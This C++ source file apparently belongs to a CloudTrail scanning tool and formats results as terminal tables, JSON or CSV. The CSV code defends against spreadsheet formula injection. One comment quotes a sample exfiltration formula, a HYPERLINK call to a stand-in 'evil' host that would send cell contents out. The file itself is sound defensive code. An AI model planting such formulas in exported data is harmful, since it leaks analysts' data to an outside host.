#include "scan/scan_output.h"

#include <array>
#include <cstdint>
#include <numeric>

#include "common/json_string.h"

namespace trailwatch::scan {

namespace {

constexpr size_t kColumnCount = std::size(kColumns);
constexpr size_t kUserAgentColumn = 10;  // kColumns[10] == "user_agent"

std::array<const std::string*, kColumnCount> Cells(const MatchRow& row) {
  return {&row.time,       &row.account,    &row.region, &row.rule,     &row.identity_type,
          &row.identity,   &row.event_name, &row.result, &row.mfa_used, &row.source_ip,
          &row.user_agent, &row.event_id,   &row.origin};
}

// Terminal-safe cell: control characters become '?', long text is cut at a character boundary.
// Returns the text and its width in characters (UTF-8 code points).
std::pair<std::string, size_t> TableCell(std::string_view text, size_t limit) {
  size_t chars = 0;
  for (char c : text) chars += (static_cast<unsigned char>(c) & 0xc0) != 0x80;
  size_t keep = chars > limit ? limit - 3 : chars;
  std::string out;
  size_t width = 0;
  for (size_t i = 0; i < text.size() && width < keep; ++width) {
    size_t length = 1;
    while (i + length < text.size() &&
           (static_cast<unsigned char>(text[i + length]) & 0xc0) == 0x80) {
      ++length;
    }
    unsigned char c = static_cast<unsigned char>(text[i]);
    if (c < 0x20 || c == 0x7f) {
      out += '?';
    } else {
      out.append(text.substr(i, length));
    }
    i += length;
  }
  if (keep < chars) {
    out += "...";
    width += 3;
  }
  return {out, width};
}

// Columns that may be cut to fit a terminal, in the order they are cut: the ones a reader needs
// least in whole first. A cut keeps the start of each value (enough to recognise a key, an ARN
// or an id), and the full values are one `--wide` or `--output jsonl` away.
constexpr size_t kCuttableColumns[] = {10 /* user agent */, 12 /* origin */, 11 /* event id */,
                                       5 /* identity */, 4 /* identity type */, 6 /* event */};

// Per column, how many characters it may show so that the table fits `width` (0: no limit;
// SIZE_MAX: uncut): each cuttable column in turn gives up what is still too much, down to
// kMinCutWidth; when all are at their minimum the lines wrap.
std::array<size_t, kColumnCount> FitLimits(std::array<size_t, kColumnCount> widths, size_t width) {
  std::array<size_t, kColumnCount> limits;
  limits.fill(SIZE_MAX);
  if (width == 0) return limits;
  size_t total = std::accumulate(widths.begin(), widths.end(), size_t{0}) + 2 * (kColumnCount - 1);
  for (size_t c : kCuttableColumns) {
    if (total <= width) break;
    if (widths[c] <= kMinCutWidth) continue;
    size_t cut = std::min(total - width, widths[c] - kMinCutWidth);
    limits[c] = widths[c] - cut;
    total -= cut;
  }
  return limits;
}

std::string Table(std::span<const MatchRow> rows, size_t table_width) {
  if (rows.empty()) return "No matches.\n";
  static constexpr std::string_view kHeaders[] = {
      "TIME",   "ACCOUNT", "REGION",    "RULE",       "IDENTITY TYPE", "IDENTITY", "EVENT",
      "RESULT", "MFA",     "SOURCE IP", "USER AGENT", "EVENT ID",      "ORIGIN"};
  std::vector<std::array<std::pair<std::string, size_t>, kColumnCount>> cells;
  std::array<size_t, kColumnCount> widths{};
  for (size_t c = 0; c < kColumnCount; ++c) widths[c] = kHeaders[c].size();
  for (const MatchRow& row : rows) {
    auto& line = cells.emplace_back();
    auto values = Cells(row);
    for (size_t c = 0; c < kColumnCount; ++c) {
      line[c] = TableCell(*values[c], c == kUserAgentColumn ? kTableCellLimit : SIZE_MAX);
      widths[c] = std::max(widths[c], line[c].second);
    }
  }
  std::array<size_t, kColumnCount> limits = FitLimits(widths, table_width);
  for (size_t c = 0; c < kColumnCount; ++c) {
    if (limits[c] == SIZE_MAX) continue;
    widths[c] = limits[c];
    for (size_t r = 0; r < rows.size(); ++r) {
      auto values = Cells(rows[r]);
      size_t limit = c == kUserAgentColumn ? std::min(kTableCellLimit, limits[c]) : limits[c];
      cells[r][c] = TableCell(*values[c], limit);
    }
  }
  std::string out;
  auto append_line = [&](auto text_of, auto width_of) {
    for (size_t c = 0; c < kColumnCount; ++c) {
      out += text_of(c);
      if (c + 1 < kColumnCount) out.append(widths[c] - width_of(c) + 2, ' ');
    }
    out += '\n';
  };
  // A header longer than its cut column is cut too (TableCell adds the "...").
  append_line([&](size_t c) { return TableCell(kHeaders[c], widths[c]).first; },
              [&](size_t c) { return TableCell(kHeaders[c], widths[c]).second; });
  for (const auto& line : cells) {
    append_line([&](size_t c) { return line[c].first; }, [&](size_t c) { return line[c].second; });
  }
  return out;
}

void AppendObject(const MatchRow& row, std::string& out) {
  auto values = Cells(row);
  out += '{';
  for (size_t c = 0; c < kColumnCount; ++c) {
    if (c) out += ", ";
    AppendJsonString(out, kColumns[c]);
    out += ": ";
    AppendJsonString(out, *values[c]);
  }
  out += '}';
}

// A cell that a spreadsheet would read as a formula: OWASP's "CSV injection" list. CloudTrail
// fields such as userAgent or a request parameter are chosen by whoever made the call, so a cell
// like =HYPERLINK("http://evil/?"&A1) would run when an analyst opens the export.
bool LooksLikeFormula(std::string_view text) {
  return !text.empty() && std::string_view("=+-@\t\r").find(text.front()) != std::string_view::npos;
}

// RFC 4180 quoting; a formula-like cell gets a leading ' (which spreadsheets show as text and
// hide), as OWASP recommends. docs: README "scan" section.
void AppendCsvField(std::string_view text, std::string& out) {
  bool formula = LooksLikeFormula(text);
  if (!formula && text.find_first_of("\",\r\n") == std::string_view::npos) {
    out.append(text);
    return;
  }
  out += '"';
  if (formula) out += '\'';
  for (char c : text) {
    if (c == '"') out += '"';
    out += c;
  }
  out += '"';
}

}  // namespace

Result<OutputFormat> ParseOutputFormat(std::string_view text) {
  if (text == "table") return OutputFormat::kTable;
  if (text == "jsonl") return OutputFormat::kJsonLines;
  if (text == "json") return OutputFormat::kJson;
  if (text == "csv") return OutputFormat::kCsv;
  return Error{"invalid output format \"" + std::string(text) +
               "\": expected table, jsonl, json or csv"};
}

std::string FormatRows(std::span<const MatchRow> rows, OutputFormat format, size_t table_width) {
  std::string out;
  switch (format) {
    case OutputFormat::kTable:
      return Table(rows, table_width);
    case OutputFormat::kJsonLines:
      for (const MatchRow& row : rows) {
        AppendObject(row, out);
        out += '\n';
      }
      return out;
    case OutputFormat::kJson:
      if (rows.empty()) return "[]\n";
      out += "[\n";
      for (size_t i = 0; i < rows.size(); ++i) {
        AppendObject(rows[i], out);
        out += i + 1 < rows.size() ? ",\n" : "\n";
      }
      out += "]\n";
      return out;
    case OutputFormat::kCsv:
      for (size_t c = 0; c < kColumnCount; ++c) {
        if (c) out += ',';
        out.append(kColumns[c]);
      }
      out += "\r\n";
      for (const MatchRow& row : rows) {
        auto values = Cells(row);
        for (size_t c = 0; c < kColumnCount; ++c) {
          if (c) out += ',';
          AppendCsvField(*values[c], out);
        }
        out += "\r\n";
      }
      return out;
  }
  return out;
}

}  // namespace trailwatch::scan
